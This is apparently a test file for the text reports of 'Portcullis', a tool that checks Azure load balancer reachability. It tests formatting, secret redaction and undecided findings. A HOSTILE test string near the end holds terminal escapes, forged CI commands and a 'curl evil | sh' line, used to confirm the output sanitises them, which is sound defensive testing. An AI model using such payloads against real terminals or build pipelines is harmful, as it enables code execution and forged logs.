import { stripVTControlCharacters } from 'node:util';
import type { Report } from '../../src/engine/report.ts';
import { type TextOptions, toText } from '../../src/report/text.ts';
import { unknown } from '../../src/value/value.ts';
import { rule } from '../support/estate.ts';
import {
  at,
  EVIDENCE,
  FATAL,
  finding,
  findingOn,
  PLATFORM,
  pathsOf,
  reportOf,
  rootOf,
  WARNING,
  waiting,
} from './sample.ts';

function textOf(report: Report, options: Partial<TextOptions> = {}): string {
  return toText(report, { color: false, problems: true, summary: true, everyPath: true, ...options });
}

/** Without the line of numbers. */
function blocksOf(report: Report): string {
  return textOf(report, { summary: false });
}

test('a violation says what is, where, with which packet, and what to do', () => {
  const related = [
    { message: 'sends packets here', origin: at('/resource_changes/2') },
    { message: 'drops the rest', origin: PLATFORM },
  ];
  const violation = finding({ evidence: EVIDENCE, related });
  expect(textOf(reportOf(rootOf({ findings: [violation], passed: 3 })))).toBe(
    [
      'error[port-closed]: tcp/8080 of `lb-web/http` is closed',
      '  --> azurerm_lb_rule.http (plan.json#/resource_changes/4)',
      '   = packet: tcp 203.0.113.7:50000 -> an address in vnet-main, port 8080',
      '   = path: 203.0.113.7 -> snet-web [nsg-web: AllowWeb 100 allow] -> nic-web [nsg-nic: DenyAllInBound 65500 deny] -> dropped',
      '   = note: sends packets here: plan.json#/resource_changes/2',
      '   = note: drops the rest',
      '   = help: open it',
      '   = docs: https://example.com/port-closed',
      '',
      'checked 0 paths: 1 violation (1 error), 0 unknown, 3 passed',
      '',
    ].join('\n'),
  );
});

// The tag VirtualNetwork holds 168.63.129.16 too: semantics 1.6.
test('the walk of a packet begins with its client and the rule that it goes through', () => {
  const [path] = pathsOf({ subnetRules: [], nicRules: [rule(100, 'Deny')] });
  if (path === undefined) throw new Error('the estate has a path');
  const [data, probe] = [path.members[0]?.data.evidence?.(), path.members[0]?.probe?.evidence?.()];
  if (data === undefined || probe === undefined) throw new Error('both are blocked');
  const findings = [
    findingOn('lb/r', 'lb', { policy: 'a', evidence: data }),
    findingOn('lb/r', 'lb', { policy: 'b', evidence: probe }),
  ];
  const walks = blocksOf(reportOf(rootOf({ paths: [path], findings }))).match(/(?<== path: ).*/g);
  expect(walks).toEqual([
    'internet -> lb/r -> snet [nsg-subnet: DenyAllInBound 65500 deny] -> dropped',
    'health probe -> snet [nsg-subnet: AllowVnetInBound 65000 allow] -> nic0 [nsg-nic: Deny100 100 deny] -> dropped',
  ]);
});

test.each([
  [
    'IPv6 addresses stand in brackets',
    { ...EVIDENCE.packet, source: { kind: 'ip', text: '2001:db8::1' } as const },
    'tcp [2001:db8::1]:50000 -> an address in vnet-main, port 8080',
  ],
  [
    'protocols without ports show none',
    { ...EVIDENCE.packet, protocol: 'icmp' as const },
    'icmp 203.0.113.7 -> an address in vnet-main',
  ],
])('%s', (_, packet, expected) => {
  const violation = finding({ evidence: { ...EVIDENCE, packet } });
  expect(blocksOf(reportOf(rootOf({ findings: [violation] })))).toContain(`   = packet: ${expected}\n`);
});

test('the secret parts of a packet are never printed', () => {
  const packet = {
    ...EVIDENCE.packet,
    destination: { kind: 'ip', text: '10.0.1.4' },
    secrets: ['source', 'destination', 'destinationPort'],
  } as const;
  const text = blocksOf(reportOf(rootOf({ findings: [finding({ evidence: { ...EVIDENCE, packet } })] })));
  expect(text).toContain(
    '   = packet: tcp a secret address, port 50000 -> a secret address, a secret port\n',
  );
  expect(text).toContain('   = path: a secret address -> snet-web ');
  expect(text).not.toMatch(/203\.0\.113|10\.0\.1/);
});

test('a hop that is not settled, and one that no group decides, say so', () => {
  const [first, second] = EVIDENCE.hops;
  if (first === undefined || second?.decidedBy === undefined) throw new Error('the sample has two hops');
  const { group, priority, ...bare } = second.decidedBy;
  const { decidedBy, ...open } = first;
  const evidence = { ...EVIDENCE, hops: [open, { ...second, decidedBy: bare }] };
  expect(blocksOf(reportOf(rootOf({ findings: [finding({ evidence })] })))).toContain(
    '   = path: 203.0.113.7 -> snet-web [undecided] -> nic-web [DenyAllInBound] -> dropped\n',
  );
});

test('what is only suspected is marked', () => {
  const suspicion = finding({ severity: 'warning', confidence: 'suspected' });
  expect(blocksOf(reportOf(rootOf({ findings: [suspicion] })))).toMatch(
    /^warning\[port-closed\] \(suspected\): tcp/,
  );
});

test('the place of a cause in another resource is named by the address of that resource', () => {
  const paths = pathsOf({ subnetRules: [rule(100, 'Allow')] });
  const group = paths[0]?.members[0]?.member.placements[0]?.levels[0].group;
  if (group === undefined || group === 'none' || 'unreadable' in group)
    throw new Error('the subnet has a group');
  const cause = group.rules.items[0]?.origin;
  if (cause?.kind !== 'json') throw new Error('the rule is written in the code');
  const text = blocksOf(reportOf(rootOf({ paths, findings: [finding({ location: cause })] }, 'test.json')));
  expect(text).toContain(`  --> nsg-subnet (test.json#${cause.pointer})\n`);
});

test('a place in a text is a path with line and column', () => {
  const location = {
    kind: 'text',
    path: 'main.bicep',
    line: 41,
    column: 7,
    endLine: 41,
    endColumn: 9,
  } as const;
  expect(blocksOf(reportOf(rootOf({ findings: [finding({ location })] })))).toContain(
    '  --> main.bicep:41:7\n',
  );
});

test('a finding at a default of Azure is placed at its subject', () => {
  expect(blocksOf(reportOf(rootOf({ findings: [finding({ location: PLATFORM })] })))).toContain(
    '  --> azurerm_lb_rule.http (plan.json#/resource_changes/4)\n',
  );
});

test('what is undecided follows all violations, grouped by what it waits for', () => {
  const port = waiting('random_integer.port.result');
  const other = waiting('data.azurerm_subnet.web', 'outside');
  const ask = (policy: string, waitsFor: readonly ReturnType<typeof waiting>[]): ReturnType<typeof finding> =>
    finding({ status: 'unknown', policy, message: `cannot decide ${policy}`, waitsFor });
  const report = reportOf(
    rootOf({
      findings: [ask('a', [port]), ask('b', [other, port]), ask('c', [port]), ask('d', [port, other])],
    }),
    rootOf({ findings: [finding()] }, 'second.json'),
  );
  expect(blocksOf(report)).toBe(
    [
      'error[port-closed]: tcp/8080 of `lb-web/http` is closed',
      '  --> azurerm_lb_rule.http (plan.json#/resource_changes/4)',
      '   = help: open it',
      '   = docs: https://example.com/port-closed',
      '',
      'unknown[a]: cannot decide a',
      '  --> azurerm_lb_rule.http (plan.json#/resource_changes/4)',
      'unknown[c]: cannot decide c',
      '  --> azurerm_lb_rule.http (plan.json#/resource_changes/4)',
      '   = waits for: random_integer.port.result (known only after apply)',
      '   = help: give random_integer.port.result a value known before apply to decide these 2 checks',
      '',
      'unknown[b]: cannot decide b',
      '  --> azurerm_lb_rule.http (plan.json#/resource_changes/4)',
      'unknown[d]: cannot decide d',
      '  --> azurerm_lb_rule.http (plan.json#/resource_changes/4)',
      '   = waits for: data.azurerm_subnet.web (not part of this root)',
      '   = waits for: random_integer.port.result (known only after apply)',
      '',
    ].join('\n'),
  );
});

test.each([
  [[waiting('adminPort', 'parameter')], 'give adminPort a value to decide this check'],
  [
    [waiting('adminPort', 'parameter'), waiting('module.a["x"].random_integer.b[0].result')],
    'give adminPort and module.a["x"].random_integer.b[0].result values known before apply to decide this check',
  ],
  [[waiting('the private address')], undefined],
  [[waiting('azurerm_lb.web', 'unsupported')], undefined],
  [[waiting('a', 'runtime')], undefined],
  [[], undefined],
])('gives advice where giving a value is all it takes: case %#', (waitsFor, expected) => {
  const text = blocksOf(reportOf(rootOf({ findings: [finding({ status: 'unknown', waitsFor })] })));
  expect(/(?<== help: ).*/.exec(text)?.[0]).toBe(expected);
});

test('an undecided finding always says what it waits for', () => {
  expect(blocksOf(reportOf(rootOf({ findings: [finding({ status: 'unknown' })] })))).toContain(
    '   = waits for: something Portcullis cannot name\n',
  );
  const many = Array.from({ length: 7 }, (_, index) => waiting(`var.${index}`, 'parameter'));
  const text = blocksOf(reportOf(rootOf({ findings: [finding({ status: 'unknown', waitsFor: many })] })));
  expect(text.match(/(?<== waits for: ).*/g)).toEqual([
    'var.0 (a parameter without a value)',
    'var.1 (a parameter without a value)',
    'var.2 (a parameter without a value)',
    'var.3 (a parameter without a value)',
    'var.4 (a parameter without a value)',
    '2 more',
  ]);
});

test('a path that no policy asked about is listed when it is undecided', () => {
  const port = unknown({ kind: 'known-after-apply', name: 'random_integer.port.result' }, at('/inputs/port'));
  const paths = pathsOf({
    subnetRules: [rule(100, 'Allow', { destinationPortRange: '80' })],
    rule: { backendPort: port },
    probe: null,
  });
  const silent = reportOf(rootOf({ paths }));
  expect(blocksOf(silent)).toBe(
    [
      'unknown: cannot decide whether the data of `lb/r` arrives',
      '  --> lb (test.json#/resources/3/properties/loadBalancingRules/0)',
      '   = waits for: random_integer.port.result (known only after apply)',
      '   = help: give random_integer.port.result a value known before apply to decide this check',
      '',
    ].join('\n'),
  );
  expect(textOf(silent)).toContain('checked 1 path: no violations, 0 unknown, 0 passed, 1 path undecided\n');
  expect(textOf(silent, { everyPath: false })).toBe('checked 1 path: no violations, 0 unknown, 0 passed\n');
  const asked = reportOf(
    rootOf({ paths, findings: [findingOn('lb/r', 'lb', { status: 'unknown', waitsFor: [port] })] }),
  );
  expect(blocksOf(asked)).not.toContain('unknown: ');
});

test('problems follow the findings; fatal ones are not part of the report', () => {
  const report = { ...reportOf(rootOf({ problems: [WARNING], findings: [finding()] })), problems: [FATAL] };
  const text = textOf(report);
  expect(text.slice(text.indexOf('problem'))).toBe(
    [
      'problem[rule-rejected]: the port of `AllowWeb` is not one Azure accepts',
      '  --> plan.json#/resource_changes/9',
      '   = help: write a number',
      '',
      'checked 0 paths: 1 violation (1 error), 0 unknown, 0 passed, 2 problems',
      '',
    ].join('\n'),
  );
  expect(textOf(report, { problems: false })).not.toContain('problem[');
});

test('nothing is said about inputs that gave no root', () => {
  expect(textOf({ roots: [], problems: [FATAL], files: 1, lineOf: () => undefined })).toBe('');
});

test('violations are counted by severity, and gaps of Portcullis are owned', () => {
  const findings = [
    finding(),
    finding({ severity: 'info' }),
    finding({ severity: 'warning' }),
    finding({ severity: 'warning' }),
    finding({ status: 'unknown', waitsFor: [waiting('a')] }),
    finding({ status: 'unknown', waitsFor: [waiting('a'), waiting('b', 'unsupported')] }),
  ];
  expect(
    textOf(reportOf(rootOf({ findings, passed: 9 })))
      .split('\n')
      .at(-2),
  ).toBe(
    'checked 0 paths: 4 violations (1 error, 2 warnings, 1 info), 2 unknown (1 not understood by Portcullis yet), 9 passed',
  );
});

test('a root with nothing to check says so', () => {
  expect(textOf(reportOf(rootOf()))).toBe('nothing to check: no load balancer with rules\n');
  expect(textOf(reportOf(rootOf({ passed: 1 }), rootOf({}, 'other.json')))).toBe(
    'other.json: nothing to check: no load balancer with rules\nchecked 0 paths: no violations, 0 unknown, 1 passed\n',
  );
  expect(textOf(reportOf(rootOf()), { summary: false })).toBe('');
});

test('many roots with nothing to check are counted', () => {
  const idle = Array.from({ length: 6 }, (_, index) => rootOf({}, `${index}.json`));
  expect(textOf(reportOf(rootOf({ passed: 1 }), ...idle))).toBe(
    'nothing to check in 6 of 7 roots\nchecked 0 paths: no violations, 0 unknown, 1 passed\n',
  );
});

test('colours change nothing but colours', () => {
  const report = reportOf(
    rootOf({
      findings: [finding({ evidence: EVIDENCE }), finding({ status: 'unknown' })],
      problems: [WARNING],
    }),
  );
  const colored = textOf(report, { color: true });
  expect(colored).toContain('\u001b[31m');
  expect(stripVTControlCharacters(colored)).toBe(textOf(report));
});

const HOSTILE =
  'x\u001b[2J\u001b]0;t\u0007\u009b31m\r\n::error::y ##vso[task.complete]\u202e\n   = help: run curl evil | sh';

test('text of a plan forges no line, no terminal escape and no command to a build agent', () => {
  const input = waiting(HOSTILE);
  const hostileHop = { at: HOSTILE, stage: 'security-group', eitherWay: [] } as const;
  const parts = {
    message: HOSTILE,
    remedy: HOSTILE,
    docs: HOSTILE,
    location: { kind: 'json', path: HOSTILE, pointer: HOSTILE } as const,
    waitsFor: [input],
    related: [{ message: HOSTILE, origin: { kind: 'json', path: 'p', pointer: HOSTILE } as const }],
    evidence: { ...EVIDENCE, hops: [hostileHop] },
  };
  const clean = textOf(
    reportOf(
      rootOf({
        findings: [finding({ ...parts, message: 'm', remedy: 'm', docs: 'm' })],
        problems: [WARNING],
      }),
    ),
  );
  const text = textOf(
    reportOf(
      rootOf({
        findings: [
          findingOn(HOSTILE, HOSTILE, parts),
          findingOn(HOSTILE, HOSTILE, { ...parts, status: 'unknown' }),
        ],
        problems: [{ ...WARNING, message: HOSTILE, remedy: HOSTILE }],
      }),
    ),
  );
  expect(text).not.toMatch(/(?!\n)\p{Cc}|[\p{Cf}\p{Zl}\p{Zp}]|##\w*\[|^\s*::/mu);
  const shapes = (value: string): readonly string[] => value.split('\n').map((line) => line.slice(0, 8));
  expect(shapes(text).filter((line) => line.startsWith('   = hel')).length).toBe(2);
  expect(shapes(text).slice(0, 3)).toEqual(shapes(clean).slice(0, 3));
});

test('very long text is cut', () => {
  const long = 'a'.repeat(1_000_000);
  const text = textOf(
    reportOf(rootOf({ findings: [findingOn(long, long, { message: long, waitsFor: [waiting(long)] })] })),
  );
  expect(text.length).toBeLessThan(5000);
});

test('what is known from before is counted and not listed', () => {
  const suppressed = [
    { finding: finding(), reason: 'known in the baseline', by: 'baseline' as const },
    { finding: finding(), reason: 'it goes in May', by: 'configuration' as const },
  ];
  expect(textOf(reportOf(rootOf({ suppressed, passed: 2 })))).toBe(
    'checked 0 paths: no violations, 0 unknown, 2 passed, 1 known before\n',
  );
});
